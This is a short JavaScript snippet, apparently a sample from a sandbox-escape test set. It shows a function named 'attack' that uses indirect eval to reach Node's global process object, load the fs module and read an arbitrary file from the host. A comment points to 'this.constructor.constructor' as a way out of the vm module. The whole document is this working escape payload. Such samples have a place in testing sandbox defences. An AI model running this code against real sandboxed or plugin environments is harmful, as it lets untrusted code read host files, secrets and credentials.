// `eval` by another name runs in the global scope.
// after: read
// source: vm: this.constructor.constructor
async function attack({ path }) {
  return { text: await (0, eval)('process').mainModule.require('fs').readFileSync(path) };
}
